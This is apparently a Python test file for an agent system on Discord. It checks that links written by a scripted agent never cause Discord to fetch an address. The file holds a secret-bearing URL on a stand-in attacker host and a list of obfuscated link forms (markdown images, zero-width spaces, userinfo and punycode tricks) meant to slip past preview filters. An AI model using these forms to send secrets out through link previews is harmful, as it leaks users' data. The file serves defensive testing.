"""Nothing that an agent writes, wherever people come to see it, makes Discord fetch an address."""

from __future__ import annotations

import re
from typing import Any

from engine.llm.scripted import call, say
from engine.ports import ChatAnswer, ChatRequest
from tests.flows.conftest import Start
from tests.flows.test_task_on_discord import command, messages, post_with, you

SECRET = "canary7f3a91qx"
LINK = f"https://evil.example/{SECRET}.png"
NO_PREVIEWS, COMPONENTS = 1 << 2, 1 << 15
"""Flags of a message: its links have no previews; it has components only, whose links never have any."""

FORMS = (
    LINK,
    f"![tea]({LINK})",
    f"[tea]({LINK})",
    f"[tea][1]\n\n[1]: {LINK}",
    f"||{LINK}||",
    f"`{LINK}`",
    f"```\n{LINK}\n```",
    f"> {LINK}",
    f"# {LINK}",
    f"-# {LINK}",
    f"HTTPS://EVIL.EXAMPLE/{SECRET}",
    f"https:\u200b//evil.example/{SECRET}",
    f"<a href='{LINK}'>",
    f"http://{SECRET}@evil.example/",
    f"https://cdn.discordapp.com/attachments/1/2/{SECRET}.png",
    f"https://discord.gg/{SECRET}",
    f"discord://-/invite/{SECRET}",
    f"https://xn--evl-{SECRET}.example/",
)


def everywhere(request: ChatRequest) -> ChatAnswer:
    """A boss that says the link in all forms, and in each thing that people see of a task."""
    if request.role != "boss":
        return say(f"{LINK} is mine.")
    if any(message.role == "assistant" for message in request.messages):
        return say("\n".join(FORMS))
    member = {"name": f"Ada {LINK}"[:40], "role": LINK, "instructions": LINK, "task": LINK}
    return call(
        ("update_todo", {"items": [{"text": LINK, "status": "doing"}], "title": f"See {LINK}"}),
        ("send_message", {"to": ["human"], "text": "\n".join(FORMS)}),
        ("write_file", {"path": f"{SECRET}/https:/evil.example/x.md", "content": LINK}),
        ("write_file", {"path": "links.html", "content": f"<img src={LINK}>"}),
        ("remember", {"text": LINK, "share": True}),
        ("recruit", {"members": [member], "group": f"At {LINK}"[:60]}),
        ("recruit", {"members": [{**member, "name": "Ada", "role": "coder"}], "group": "Makers"}),
        ("ask_human", {"question": "\n".join(FORMS), "options": [LINK[:80], f"[no]({LINK})"[:80]]}),
    )


def fetched(message: dict[str, Any]) -> bool:
    """Whether Discord would fetch an address for a message: of its words, a picture or a face."""
    bare = re.sub(r"<[^<>\s]*>", "", message["content"] or "")
    shown = message["flags"] & (NO_PREVIEWS | COMPONENTS)
    pictures = [
        embed.get(kind, {}) for embed in message["embeds"] for kind in ("image", "thumbnail", "video")
    ]
    icons = [embed.get(kind, {}) for embed in message["embeds"] for kind in ("author", "footer")]
    addresses = [*(one.get("url", "") for one in pictures), *(one.get("icon_url", "") for one in icons)]
    addresses.append(str(message["author"].get("avatar") or ""))
    said = not shown and re.search(r"https?://", bare, re.I) is not None
    return said or any(SECRET in str(address) for address in addresses)


async def test_what_agents_write_is_never_fetched(start: Start) -> None:
    """Posts, questions, cards, lists, names and answers to commands, for the one who started the task."""
    async with start(everywhere) as product:
        await command(product, "task new", goal="Say it everywhere.")
        asked = await post_with(product, "is mine")
        assert SECRET in str(asked)
        seen = list(messages(product))
        for name in ("task status", "task tree", "task log", "task files", "spend", "audit", "memory list"):
            shown = await command(product, name)
            assert shown.message is not None, name
            seen.append(shown.message)
        assert sum(SECRET in str(message) for message in seen) >= 5
        assert [message for message in seen if fetched(message)] == []
        task = await product.engine.engine.look.task(1)
        assert task.state == "running"
        await you(product).slash(you(product).channel("lobby"), "task stop", task="1")
